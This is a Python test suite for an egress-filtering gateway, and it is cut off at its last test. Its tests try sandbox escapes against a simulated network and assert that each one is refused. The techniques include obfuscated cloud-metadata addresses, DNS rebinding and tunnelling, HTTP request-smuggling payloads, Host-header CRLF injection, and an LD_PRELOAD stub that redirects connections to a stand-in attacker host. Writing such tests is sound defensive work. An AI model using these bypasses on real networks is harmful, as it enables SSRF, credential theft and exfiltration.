#!/usr/bin/python3 -B
"""Goal: every known way around the policy fails, from inside a cell, as root there and as its user; and the
world's packet filter shows that nothing got out. One test for each attack. Those on secrets and on the gateway itself
are in test_egress_abuse.py.

    test_egress_attacks.py CORDON PLAIN [name ...]

Addresses are attacked from the most generous policy there is (default allow: all that is public); names from one
that allows web.example, look.example (some paths) and *.wild.example. Runs in a small internet of its own."""
import json
import os
import sys
import time

import internet
from harness import Skip, check, equal, has, note, wait_for
from internet import EVIL, EVIL6, INTERNAL, METADATA, METADATA6, METADATA_ALI, NODE_PUBLIC, WEB
from internet_client import POLICY, TOOLS, TRUST, both, curl, make, policy, probe, put, recorded, records, sh, shared

PLAIN = ""
WIDE = {}


def wide(server):
    """A session that may reach everything that is public."""
    if WIDE.get("server") is not server:
        WIDE.update(server=server, session=make(server, {"version": 1, "default": "allow"}))
    return WIDE["session"]


def control(server):
    """Behind each test: what is allowed is reached, from the same sessions; in turns."""
    WIDE["turn"] = not WIDE.get("turn")
    s = shared(server) if WIDE["turn"] else wide(server)
    got = probe(server, s, "[get('web.example'), by_proxy('web.example')[1], tls_get('look.example', check=False)]")
    check(all('"sha256"' in text for text in got), f"what is allowed does not work: {got}")


def served(text):
    """Somebody's server answered, not the gateway."""
    return '"sha256"' in text or "CANARY" in text or " 200 " in text.split("\r\n")[0]


def refused(got, what=""):
    """All of these are refusals, quick ones and in words where there is a language for words."""
    for text in got if isinstance(got, list) else [got]:
        if isinstance(text, list):
            refused(text, what)
            continue
        good = text.startswith("!") or text == "" or text.split(" ")[0] in ("HTTP/1.1", "tunnel") and not served(
            text.removeprefix("tunnel "))
        check(good and "Timeout" not in text, f"{what}: not refused: {text[:300]!r}")


def address_refused(server, spelling, port=80):
    """Used as an address, as a host of the proxy, as a Host, and as a name."""
    s = wide(server)
    bare = spelling.strip("[]")
    got = both(server, s, f"[get({bare!r}, port={port}), get(usual({bare!r}), port={port}, at={bare!r}), "
               f"*by_proxy({spelling + (':%d' % port if port != 80 else '')!r}), "
               f"get({spelling!r}, at='web.example')]")
    refused(got, spelling)
    if ":" not in bare:
        for answer in both(server, s, f"dns({bare!r})"):
            check(answer[0] != 0 or answer[1] == 0, f"{bare} is a name: {answer}")


def name_refused(server, name, port=80):
    """A name that leads where nobody may go. The name exists (its addresses are not known before), or does not."""
    got = both(server, wide(server), f"[get({name!r}, port={port}), "
               f"*by_proxy({name + (':%d' % port if port != 80 else '')!r}), "
               f"tls_get({name!r}, check=False)]")
    refused(got, name)


# ---- addresses


def test_connect_and_socks_to_an_address_when_only_domains_are_allowed(server):
    s = shared(server)
    refused(both(server, s, f"[*by_proxy('{WEB}'), get('web.example', at='{WEB}'), tls_get('web.example', at='{WEB}', "
                 f"check=False)]"))
    got = both(server, s, "[raw(*PROXY, bytes([5, 1, 0])), raw('198.18.0.1', 1080, bytes([5, 1, 0]))]")
    check(all(t.startswith("!") or t == "" or t.startswith("HTTP/1.1 4") for g in got for t in g), f"SOCKS: {got}")
    equal(internet.NET.connections, [], "connections to the host whose name is allowed")
    recorded(server, s, lambda r: r["verdict"] == "deny" and r.get("address") == WEB and r.get("reason"))


def test_metadata_plain(server):
    address_refused(server, METADATA)


def test_metadata_as_decimal(server):
    address_refused(server, "2852039166")


def test_metadata_as_hex(server):
    for spelling in ("0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0xa9fe.43518"):
        address_refused(server, spelling)


def test_metadata_as_octal(server):
    for spelling in ("0251.0376.0251.0376", "025177524776", "0251.254.43518", "169.254.169.0376"):
        address_refused(server, spelling)


def test_metadata_mapped_into_ipv6(server):
    for spelling in ("[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]",
                     "[::169.254.169.254]"):
        address_refused(server, spelling)
    for name in ("meta.example", "mapped.example", "nat64.example"):
        name_refused(server, name)


def test_link_local_fe80(server):
    address_refused(server, "[fe80::1]")
    address_refused(server, "[fe80::]")
    name_refused(server, "linklocal.example")
    refused(both(server, wide(server), "raw('fe80::1%lo', 80, 'GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')"))


def test_metadata_100_100_100_200(server):
    address_refused(server, METADATA_ALI)
    name_refused(server, "cgnat.example")


def test_metadata_fd00_ec2_254(server):
    address_refused(server, f"[{METADATA6}]")
    name_refused(server, "meta6.example")


def test_metadata_google_internal(server):
    name_refused(server, "metadata.google.internal")
    name_refused(server, "METADATA.google.internal.")


def test_zero_loopback_localhost_and_docker(server):
    for spelling in ("0.0.0.0", "[::]", "127.1", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0", "0x7f.1",
                     "192.0.2.1"):
        address_refused(server, spelling, 8088)
    for name in ("localhost", "x.localhost", "host.docker.internal", "loop.example", "zero.example", "multi.example"):
        name_refused(server, name, 8088)


def test_private_addresses(server):
    for spelling in (INTERNAL, "10.5", "167772165", "192.168.1.1", "172.16.0.1", "[fd12:3456:789a::5]", "224.0.0.1",
                     "255.255.255.255",
                     "198.18.0.1", "198.19.255.255", "192.0.0.1", "240.0.0.1"):
        address_refused(server, spelling)
    name_refused(server, "internal.corp.example")
    s = make(server, policy({"cidr": ["10.0.0.0/8", "169.254.0.0/16", "fd00::/8"], "ports": "any"}, {"host": "*"}))
    refused(both(server, s,
                 f"[get('{INTERNAL}'), get('{METADATA}'), get('{METADATA6}'), get('internal.corp.example')]"),
            "a rule of the session's own does not open them")


# ---- names


def test_dns_rebinding(server):
    internet.NET.zone["rebind.example"] = lambda kind, n: (WEB if n == 1 else METADATA,) if kind == 1 else ()
    s = make(server, policy({"host": "rebind.example"}))
    got = probe(server, s, "[get('rebind.example', '/close') for i in range(3)]")
    check(served(got[0]), f"the first answer was public: {got[0][:200]}")
    refused(got[1:], "the second answer is private")
    has(got[1], "169.254.169.254", "the reason")
    internet.NET.zone["both.example"] = lambda kind, n: (METADATA, WEB) if kind == 1 else ()
    s = make(server, policy({"host": "both.example"}))
    for text in probe(server, s, "[get('both.example', '/close') for i in range(6)]"):
        check(served(text) and f'"address": "{WEB}"' in text, f"of two addresses only the public one: {text[:200]}")
    equal([a for a, p in internet.NET.connections if a != WEB], [], "connections elsewhere")


def test_cname_to_disallowed(server):
    """Where a name of the policy leads is its owner's business as long as that is public; but it stays that name."""
    internet.NET.zone["leads.example"] = ("other.example",)
    s = make(server, policy({"host": "leads.example"}, {"host": "tointernal.example"}))
    refused(both(server, s, "get('tointernal.example')"), "a CNAME to a private address")
    got = probe(server, s, "[get('leads.example'), get('other.example', at='leads.example'), "
                "tls_get('other.example', at='leads.example', check=False)]")
    check(served(got[0]) and '"host": "leads.example"' in got[0], got[0][:200])
    refused(got[1:], "the name that a CNAME led to")


def test_trailing_dot(server):
    s = shared(server)
    got = both(server, s, "[get('web.example.'), get('evil.example.', at='web.example'), get('web.example..', "
               "at='web.example'), "
               "*by_proxy('evil.example.')]")
    for g in got:
        check(served(g[0]) and '"host": "web.example' in g[0], f"the same name: {g[0][:200]}")
        refused(g[1:])
    s = make(server, policy({"host": "look.example", "action": "deny"}, {"host": "*.example"}))
    refused(both(server, s, "[get('look.example.'), *by_proxy('look.example.')]"), "a rule that denies")


def test_case(server):
    s = make(server, policy({"host": "look.example", "action": "deny"}, {"host": "*.example"}))
    got = both(server, s, "[get('WEB.Example'), get('LOOK.eXample'), *by_proxy('LOOK.EXAMPLE'), get('LOOK.EXAMPLE', "
               "at='web.example')]")
    for g in got:
        check(served(g[0]), g[0][:200])
        refused(g[1:], "a rule that denies")
    equal([a[0] for a in both(server, s, "dns('LOOK.EXAMPLE')")], [3, 3], "names")


def test_punycode_and_idna(server):
    s = make(server, policy({"host": "xn--bcher-kva.example"}, {"host": "web.example"}))
    check(served(probe(server, s, "get('xn--bcher-kva.example')")), "the name in its ASCII form")
    refused(both(server, s, "[get('b\\xfccher.example', at='web.example'), "
                 "get('w\\u0435b.example'.encode().decode('latin-1'), at='web.example'), "
                 "*by_proxy('w\\xd0\\xb5b.example'), *by_proxy('xn--wb-jlc.example'), "
                 "get('\\uff57eb.example'.encode().decode('latin-1'), at='web.example')]"))
    for labels in ("[b'w\\xd0\\xb5b', b'example']", "[b'xn--wb-jlc', b'example']", "[b'b\\xfccher', b'example']"):
        got = probe(server, s, f"dns({labels})")
        check(got[0] != 0 and got[1] == 0, f"{labels}: {got}")


def test_percent_encoding(server):
    s = shared(server)
    refused(both(server, s, "[get(h, at='web.example') for h in ('web%2eexample', '%65vil.example', 'evil%2Eexample', "
                 "'web.example%00.evil.example', "
                 "'web.example%2f.evil.example')] + by_proxy('web.example%2f@evil.example') + "
                 "by_proxy('%65vil.example')"))
    paths = ("/%73hut", "/open/../shut", "/open/%2e%2e/shut", "/open/.%2e/shut", "/open/..%2fshut", "/open%2f..%2fshut",
             "/open/%2e%2e%2fshut",
             "/open/..%5cshut", "/open/..;/shut", "/open/%00/../shut", "//shut", "/open/%c0%ae%c0%ae/shut",
             "/open/..%c0%afshut", "/open/%u002e%u002e/shut")
    got = probe(server, s, f"[get('look.example', p) for p in {paths!r}]")
    refused(got, "paths")
    equal([h["path"] for h in internet.NET.hits if "shut" in h["path"]], [], "paths that arrived")


def test_userinfo(server):
    s = shared(server)
    refused(both(server, s, "[*by_proxy('web.example@evil.example'), *by_proxy('web.example:80@evil.example'), "
                 "get('web.example@evil.example', at='web.example'), *by_proxy('web.example', "
                 "host='web.example@evil.example'), "
                 "raw(*PROXY, 'GET http://web.example\\\\@evil.example/ HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n'), "
                 "raw(*PROXY, 'GET http://web.example#@evil.example/ HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')]"))
    check(curl(server, s, "http://web.example@evil.example/")[1] != 200, "curl")
    equal(internet.NET.hits, [], "hits")


def test_nul_byte_in_a_socks5_name(server):
    """The names that egress gives to its own SOCKS5 proxy are those that it has judged, whatever they held."""
    s = make(server, policy({"host": "web.example"}, {"host": "*.example"}, {"host": "evil.example", "action": "deny"},
                            proxy={"address": "socks.example:1080", "username": "u", "password": "p"}))
    refused(both(server, s, "[get('evil.example\\0.web.example', at='web.example'), "
                 "*by_proxy('evil.example\\0.web.example'), "
                 "*by_proxy('evil.example%00.web.example'), outcome(raw('web.example', 443, "
                 "hello(b'web.example\\0.evil'))), "
                 "outcome(raw('web.example', 443, hello(b'web.example\\0')))]".replace("outcome(", "'!'+outcome(")))
    for labels in ("[b'evil\\0', b'example']", "[b'evil.example\\0', b'web', b'example']",
                   "[b'web.example', b'example']", "[b'a', b'b\\n', b'example']"):
        got = probe(server, s, f"dns({labels})")
        check(got[0] != 0 and got[1] == 0, f"{labels}: {got}")
    bad = [h["path"] for h in internet.NET.hits if h["method"] == "SOCKS" and h["host"] != "web.example"]
    equal(bad, [], "names that the proxy was asked for")


def test_cr_lf_in_host(server):
    s = shared(server)
    refused(both(server, s, "[raw('web.example', 80, 'GET /echo HTTP/1.1\\r\\nHost: ' + h + '\\r\\n\\r\\n') for h in "
                 "('web.example\\revil.example', 'web.example\\nX: y', 'web.example\\r\\n evil.example', "
                 "'web.example\\tevil.example', "
                 "' web.example evil.example', 'web.example,evil.example', "
                 "'')] + by_proxy('web.example\\r\\nX-Y: z')[:1]"))
    refused(both(server, s, "raw('web.example', 80, 'GET /echo\\rX HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')"))
    equal(internet.NET.hits, [], "hits")


def test_overlong_labels(server):
    s = wide(server)
    refused(both(server, s, "[get(h, at='web.example') for h in ('a' * 64 + '.example', 'a.' * 127 + 'example', "
                 "'a' * 5000 + '.example', '.web.example', "
                 "'web..example')] + by_proxy('a' * 64 + '.example') + by_proxy('a.' * 130 + 'example')"))
    for labels in ("[b'a' * 63] * 5", "[b'a'] * 130"):
        got = probe(server, s, f"dns({labels})")
        check(isinstance(got, str) or got[1] == 0, f"{labels}: {got}")
    got = probe(server, s, "udp('198.18.0.1', 53, struct.pack('!HHHHHH', 7, 256, 1, 0, 0, "
                "0) + b'\\xc0\\x0c' + struct.pack('!HH', 1, 1))")
    check(got.startswith("!") or got.encode("latin-1")[6:8] == b"\0\0", f"a name that points at itself: {got!r}")
    check(served(probe(server, s, "get('web.example')")), "and it still serves")


def lookalike(server, name):
    s = shared(server)
    equal([a[:2] for a in both(server, s, f"dns({name!r})")], [[3, 0]] * 2, "names")
    refused(both(server, s, f"[get({name!r}, at='web.example'), *by_proxy({name!r}), tls_get({name!r}, "
                 f"at='web.example', check=False), "
                 f"get({name!r}, at='{EVIL}')]"), name)


def test_allowed_com_evil_com(server):
    lookalike(server, "web.example.evil.example")


def test_evilallowed_com_vs_allowed_com(server):
    for name in ("evilweb.example", "evil-web.example", "evilwild.example", "wild.example",
                 "wild.example.evil.example"):
        lookalike(server, name)


# ---- TLS


def test_sni_differs_from_host(server):
    s = shared(server)
    got = both(server, s, "[tls_get('look.example', header=h) for h in ('look.example', 'web.example', 'evil.example', "
               "'look.example:8443', "
               f"'{WEB}', 'look.example.evil.example')]")
    for g in got:
        check(served(g[0]), g[0][:200])
        refused(g[1:], "a Host that is not the SNI")
    refused(both(server, s, "[tls_get('web.example', sni=n, check=False) for n in ('evil.example', 'look.example', "
                 "'web.example.evil.example')]"),
            "an SNI that is not the name")
    recorded(server, s, lambda r: r["verdict"] == "deny" and "SNI evil.example differs" in r.get("reason", ""))


def test_sni_differs_from_certificate(server):
    names = ("wrongname.example", "expired.example", "selfsigned.example")
    s = make(server, policy(*({"host": n, "tls": "terminate"} for n in names),
                            {"host": "bysni.example", "tls": "terminate"}))
    for name in names:
        got = probe(server, s, f"tls_get('{name}')")
        check(got.startswith("HTTP/1.1 502 ") and "certificate" in got, f"{name}: {got[:300]}")
    check(served(probe(server, s, "tls_get('bysni.example')")), "one that fits")
    equal([h["host"] for h in internet.NET.hits], ["bysni.example"], "requests that arrived")


def test_no_sni(server):
    s = shared(server)
    got = both(server, s, "[tls('web.example', None, check=False), tls('look.example', None, check=False), "
               "outcome(raw('web.example', 443, hello())), outcome(raw('web.example', 443, hello(b''))), "
               "outcome(raw('web.example', 443, hello(b'10.0.0.5')))]")
    for g in got:
        refused(g[:2])
        check(all(t.startswith(("alert", "!")) or t == "" for t in g[2:]), f"{g}")
    equal(internet.NET.connections, [], "connections")


def test_encrypted_client_hello(server):
    """The inner name cannot be read: it is not passed on, but ended here, where only the outer has a certificate."""
    s = shared(server)
    got = both(server, s, "[outcome(raw('web.example', 443, hello(b'web.example', [(0xfe0d, b'\\0' * 60)]), 1)), "
               "outcome(raw('web.example', 443, hello(b'evil.example', [(0xfe0d, b'\\0' * 60)]))), dns('web.example', "
               "65), dns('web.example', 64)]")
    for g in got:
        check(g[1].startswith("alert"), f"an outer name that is not the name: {g[1]}")
        equal([a[:2] for a in g[2:]], [[0, 0], [0, 0]], "no keys are given")
    equal(internet.NET.connections, [], "a ClientHello with hidden parts reached the server")


def test_host_differs_from_authority(server):
    """There is no :authority where requests are looked at: HTTP/2 is not spoken there."""
    s = shared(server)
    got = both(server, s, "[tls('look.example', 'look.example', alpn=['h2']), tls('look.example', 'look.example', "
               "alpn=['h2', 'http/1.1'])]")
    for g in got:
        check(g[0].startswith("!") and g[1] == "shaken http/1.1", f"{g}")


def test_http2_coalescing(server):
    s = shared(server)
    code, status, text = curl(server, s, "https://look.example/open/c", "--http2", "-o", "/dev/null", "-w",
                              "%{http_version}\n%{http_code}")
    equal((code, status, text), (0, 200, "1.1"), "HTTP/1.1, whatever the client would like")
    got = probe(server, s, "two()", before="""
def two():
    s = ssl.create_default_context().wrap_socket(connect('look.example', 443), server_hostname='look.example')
    out = []
    for host in ('look.example', 'web.example'):
        s.sendall(f'GET /echo HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode())
        out.append(everything(s))
    return out""")
    check(served(got[0]), got[0][:200])
    refused(got[1], "an allowed host on another's connection")


def test_certificate_for_a_wildcard(server):
    s = make(server, policy({"host": "*.wild.example", "tls": "terminate"}))
    got = probe(server, s, "[tls_get('one.wild.example'), tls_get('two.one.wild.example')]")
    check(served(got[0]), f"one label: {got[0][:200]}")
    check(got[1].startswith("HTTP/1.1 502 "), f"a star is one label only: {got[1][:200]}")


def test_client_certificates_bypass_nothing(server):
    s = shared(server)
    sh(server, s, "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/c.key -out "
       "/tmp/c.pem -subj /CN=admin -days 2 "
       "2>/dev/null && chmod 644 /tmp/c.key", 0)
    got = both(server, s, "[tls_get('look.example', p, tweak=lambda c: c.load_cert_chain('/tmp/c.pem', "
               "'/tmp/c.key')) for p in ('/echo', '/shut')]")
    for g in got:
        check(served(g[0]), g[0][:200])
        refused(g[1:], "with a client's certificate")


# ---- HTTP


def test_absolute_form_differs_from_host(server):
    s = shared(server)
    refused(both(server, s, "[raw(h, p, 'GET ' + u + ' HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n') "
                 "for h, p in (('web.example', 80), PROXY) "
                 f"for u in ('http://evil.example/echo', 'http://{EVIL}/echo', 'https://evil.example/echo', "
                 f"'ftp://web.example/', 'http:evil.example', "
                 "'http:///echo', 'file:///etc/passwd')]"))
    equal([h for h in internet.NET.hits if h["address"] != WEB], [], "hits")


def test_two_host_headers(server):
    refused(both(server, shared(server), "[raw('web.example', 80, t), raw(*PROXY, t.replace('/echo', "
                 "'http://web.example/echo'))]",
                 before="t = 'GET /echo HTTP/1.1\\r\\nHost: web.example\\r\\nHost: evil.example\\r\\n\\r\\n'"))
    equal(internet.NET.hits, [], "hits")


SMUGGLED = "GET /shut HTTP/1.1\\r\\nHost: look.example\\r\\n\\r\\n"
SMUGGLING = [
    ("Content-Length: 4\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n"), ("Transfer-Encoding: "
    "chunked\\r\\nContent-Length: 0", "0\\r\\n\\r\\n"),
    ("Content-Length: 0\\r\\nContent-Length: 60", ""), ("Transfer-Encoding: xchunked", "0\\r\\n\\r\\n"),
    ("Transfer-Encoding : chunked", "0\\r\\n\\r\\n"),
    ("Transfer-Encoding:\\x0bchunked", "0\\r\\n\\r\\n"), ("Transfer-Encoding: chunked, identity", "0\\r\\n\\r\\n"),
    ("Transfer-Encoding: identity", ""),
    ("Content-Length: +0", ""), ("Content-Length: 0x0", ""), ("Content-Length: 0, 0", ""), (" Content-Length: 50", ""),
    ("X: y\\n\\nGET /shut HTTP/1.1", ""),
    ("Transfer-Encoding: chunked", "0;a=\\n\\r\\n"), ("Transfer-Encoding: chunked", "00000000000000000\\r\\n\\r\\n"),
    ("Transfer-Encoding: chunked", "-0\\r\\n\\r\\n"),
    ("Transfer-Encoding: chunked", "0\\n\\n"), ("Transfer-Encoding\\0: chunked", "0\\r\\n\\r\\n"),
    ("Content_Length: 3", ""), ("Connection: Content-Length\\r\\nContent-Length: 0", ""),
]


def test_te_cl_smuggling(server):
    s = shared(server)
    texts = [f"POST /open/s{i} HTTP/1.1\\r\\nHost: look.example\\r\\n{head}\\r\\n\\r\\n{body}{SMUGGLED}" for i,
             (head, body) in enumerate(SMUGGLING)]
    listed = "[" + ", ".join(f"'{t}'" for t in texts) + "]"
    got = probe(server, s, f"[raw('look.example', 80, t) for t in {listed}]")
    got += probe(server, s, f"[tls('look.example', 'look.example', t) for t in {listed}]")
    for text, answer in zip(texts * 2, got):
        check("Timeout" not in answer, f"{text}: {answer[:200]}")
    equal([h["path"] for h in internet.NET.hits if "shut" in h["path"] or b"shut" in h["body"]], [],
          "what was smuggled")


def test_connect_pipelining(server):
    s = shared(server)
    got = both(server, s, "[raw(*PROXY, 'CONNECT ' + t + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /echo "
               "HTTP/1.1\\r\\nHost: ' + h + '\\r\\nConnection: close\\r\\n\\r\\n') for t, h in "
               "(('web.example:80', 'evil.example'), ('look.example:80', 'evil.example'), ('evil.example:80', "
               "'evil.example'), ('web.example:22', 'web.example'), "
               "('web.example:443', 'web.example'), ('web.example', 'web.example'), ('web.example:99999', "
               "'web.example'), ('198.18.0.1:3128', 'x'))]")
    for g in got:
        for text in g:
            check('"sha256"' not in text, f"served: {text[:200]}")
    got = probe(server, s, "raw(*PROXY, 'CONNECT look.example:80 HTTP/1.1\\r\\nHost: "
                "look.example:80\\r\\n\\r\\nCONNECT evil.example:80 HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: "
                "close\\r\\n\\r\\n')")
    check(" 200 " not in got.partition("\r\n\r\n")[2], f"CONNECT in a tunnel: {got}")
    equal([h for h in internet.NET.hits if h["host"] != "web.example"], [], "hits")


UPGRADE = ("Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n")


def test_upgrade_to_websocket_then_tunnel(server):
    s = shared(server)
    refused(both(server, s, f"[get('look.example', '/ws', '{UPGRADE}'), tls_get('look.example', '/ws', '{UPGRADE}')]"),
            "a path that is not allowed")
    got = probe(server, s, f"raw('look.example', 80, 'GET /echo HTTP/1.1\\r\\nHost: "
                f"look.example\\r\\n{UPGRADE}\\r\\n{SMUGGLED}')")
    equal(internet.NET.hit("/shut"), [], f"what follows an upgrade that the server did not do ({got[:200]})")
    refused(both(server, s, "get('web.example', '/h2c', 'Connection: Upgrade\\r\\nUpgrade: tcp\\r\\n')"),
            "a protocol nobody knows")


def test_h2c_upgrade(server):
    s = shared(server)
    got = probe(server, s, "get('web.example', '/echo', 'Connection: Upgrade, "
                "HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n')")
    check(served(got), got[:200])
    check(not [n for n, v in internet.NET.hits[-1]["headers"] if n.lower() in ("upgrade", "http2-settings")],
          "the server was offered it")
    refused(both(server, s, "raw('web.example', 80, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + '\\0' * 9)"),
            "without asking")
    check(" 502 " in probe(server, s, f"get('web.example', '/h2c', '{UPGRADE}')"),
          "a server that changes to it by itself")


# ---- other protocols


def udp_refused(server, port, data="b'x' * 40"):
    s = wide(server)
    got = both(server, s, f"[udp('web.example', {port}, {data}), udp('{EVIL}', {port}, {data}), udp('{EVIL6}', {port}, "
               f"{data}), udp('{METADATA}', {port}, {data})]")
    check(all("ConnectionRefused" in t for g in got for t in g), f"at once: {got}")


def test_quic_udp_443(server):
    udp_refused(server, 443, "b'\\xc3\\0\\0\\0\\1' + b'\\0' * 1195")
    check('Alt-Svc' not in probe(server, shared(server), "get('web.example', '/altsvc')"),
          "a server's advice to use it")


def test_ntp(server):
    udp_refused(server, 123, "b'\\x23' + b'\\0' * 47")


def test_doh(server):
    """Where paths are given, /dns-query is none of them; and an address learnt that way is refused anyhow."""
    s = shared(server)
    refused(both(server, s, "[raw('look.example', 80, 'POST /dns-query HTTP/1.1\\r\\nHost: "
                 "look.example\\r\\nContent-Type: application/dns-message\\r\\nContent-Length: 3\\r\\n\\r\\nabc'), "
                 f"tls_get('look.example', '/dns-query?dns=AAAA'), get('evil.example', at='{EVIL}'), "
                 f"tls_get('evil.example', at='{EVIL}', check=False)]"))
    equal(internet.NET.hits, [], "hits")


def test_dot_853(server):
    s = shared(server)
    refused(both(server, s, f"[tls('web.example', 'web.example', port=853, check=False), raw('9.9.9.9', 853, "
                 f"hello(b'web.example')).replace(chr(21), '!'), raw('{EVIL}', 853, "
                 f"hello(b'evil.example')).replace(chr(21), '!')]"))
    equal(internet.NET.connections, [], "connections")


def test_dns_tunnelling(server):
    s = make(server)
    began = time.monotonic()
    got = probe(server, s, "tunnel()", before="""
def tunnel():
    out = {}
    for kind in (16, 10, 255, 15, 33, 99, 12, 257):
        for name in ('a' * 60 + '.evil.example', 'web.example', 'data.one.wild.example'):
            a = dns(name, kind)
            out[f'{kind} {name}'] = a[:2] if isinstance(a, list) else a
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((RESOLVER, 53))
    s.settimeout(0.2)
    for i in range(3000):
        s.send(question(f'{i:060x}.evil.example'))
    return out""")
    for what, answer in got.items():
        check(isinstance(answer, list) and answer[1] == 0 and (answer[0] != 0), f"{what}: {answer}")
    equal(internet.NET.asked, [], "questions that left the node")
    check(time.monotonic() - began < 15, "3,000 questions take long")
    wait_for(lambda: probe(server, s, "dns('web.example')")[:2] == [0, 1], 10, "an answer after that many")
    refused(probe(server, s, "[get('x.evil.example', at='web.example')]"))


def test_icmp_tunnel(server):
    s = wide(server)
    got = both(server, s, "[made(k) for k in (socket.SOCK_DGRAM, socket.SOCK_RAW)]", before=f"""
def made(kind):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('{EVIL}', 0))
        return 'sent'
    except OSError as e:
        return name_of(e)""")
    check(all(t.startswith("!") for g in got for t in g), f"ICMP sockets: {got}")


def test_ipv6_only_path(server):
    s = shared(server)
    refused(both(server, s, f"[get('evil.example', at='{EVIL6}'), *by_proxy('[{EVIL6}]'), get('web.example', "
                 f"at='{internet.WEB6}'), "
                 f"tls_get('web.example', at='{internet.WEB6}', check=False)]"))
    equal([a[:2] for a in both(server, s, "dns('evil.example', 28)")], [[3, 0]] * 2, "names")
    equal(internet.NET.connections, [], "connections")


def raw_socket(server, words, send):
    got = both(server, wide(server), "made()", before=f"""
def made():
    try:
        s = socket.socket({words})
        {send}
        return 'sent'
    except OSError as e:
        return name_of(e)""")
    check(all(t.startswith("!") for t in got), f"socket({words}): {got}")


def test_ip_fragments(server):
    raw_socket(server, "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW", f"s.sendto(b'\\x45' + b'\\0' * 39, "
               f"('{EVIL}', 0))")
    raw_socket(server, "socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW", f"s.sendto(b'\\x60' + b'\\0' * 47, "
               f"('{EVIL6}', 0))")


def test_raw_socket_to_the_gateway(server):
    raw_socket(server, "socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)", "s.bind(('lo', 0)); s.send(b'\\0' * 60)")
    raw_socket(server, "socket.AF_INET, socket.SOCK_RAW, 6", f"s.sendto(b'\\0' * 20, ('{EVIL}', 0))")


def test_source_port_53(server):
    got = probe(server, shared(server), f"[dns('evil.example', server='{EVIL}', source=53)[:2], from53()]", before=f"""
def from53():
    s = socket.socket()
    s.settimeout(5)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('', 53))
    s.connect(('{EVIL}', 80))
    s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
    return everything(s)""")
    check(got[0][1] == 0, f"an answer from outside: {got[0]}")  # its own question may come back to it
    refused(got[1])


def test_tcp_to_the_proxys_own_admin_port(server):
    port = server.address[1]
    s = wide(server)
    for host in ("127.0.0.1", "localhost", "[::1]", "192.0.2.1", NODE_PUBLIC, "self.example", "198.18.0.1"):
        refused(both(server, s, f"[raw({host.strip('[]')!r}, {port}, "
                     f"'GET /healthz HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'), *by_proxy('{host}:{port}', "
                     f"'/healthz')]"), host)


def test_proxy_reaching_its_own_loopback(server):
    """The node's own services: at its loopback, at its public address, by name, and the proxy by itself."""
    for host in ("127.0.0.1", "127.0.0.53", "self.example", NODE_PUBLIC, "loop.example", "2001:db8::1"):
        host = f"[{host}]" if ":" in host else host
        s = wide(server)
        refused(both(server, s, f"[*by_proxy('{host}:8088'), *by_proxy('{host}:80'), *by_proxy('{host}:3128'), "
                     f"*by_proxy('{host}:53')]"), host)
    refused(both(server, wide(server), "[*by_proxy('198.18.0.1:3128'), *by_proxy('[fd63:6f72:646f:6e00::1]:3128')]"),
            "the proxy by itself")


# ---- clients that do not want to


def test_no_proxy(server):
    s = shared(server)
    for more in ({"env": {"NO_PROXY": "*", "no_proxy": "*", "http_proxy": "http://198.18.0.1:3128"}}, {}):
        for url in ("http://evil.example/", f"http://{EVIL}/", f"http://{METADATA}/latest/meta-data/"):
            code, status, text = curl(server, s, url, "--noproxy", "*", **more)
            check(status in (0, 403), f"{url}: {code} {status} {text[:200]}")


def test_ld_preload(server):
    s = shared(server)
    source = f"""#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <unistd.h>
int connect(int s, const struct sockaddr *a, unsigned n)
{{ struct sockaddr_in t = {{ .sin_family = AF_INET, .sin_port = htons(80) }}; (void)a; (void)n;
  inet_pton(AF_INET, "{EVIL}", &t.sin_addr); return (int)syscall(SYS_connect, s, &t, sizeof(t)); }}"""
    done = sh(server, s, f"cat > /tmp/p.c <<'E'\n{source}\nE\ncc -shared -fPIC -o /tmp/p.so /tmp/p.c")
    if done["exit_code"] != 0:
        raise Skip(f"no compiler in the cell: {done['stderr'][-200:]}")
    done = sh(server, s, "LD_PRELOAD=/tmp/p.so curl -4 -sS -m 10 -o /dev/null -w '%{http_code}' "
              "http://web.example/echo")
    check(done["stdout"] in ("403", "000"), f"{done}")


def test_static_binary_that_ignores_the_environment(server):
    s = shared(server)
    with open(PLAIN, "rb") as f:
        server.want(201, "PUT", f"/v1/sessions/{s['id']}/files?path=/tmp/plain&mode=755", f.read())
    for host in (EVIL, METADATA, "evil.example"):
        done = sh(server, s, f"/tmp/plain {host} 80 /echo", env={"http_proxy": "http://198.18.0.1:3128"})
        check("200 OK" not in done["stdout"] and (done["exit_code"] or " 403 " in done["stdout"]), f"{host}: {done}")


def test_redirects_to_disallowed(server):
    s = shared(server)
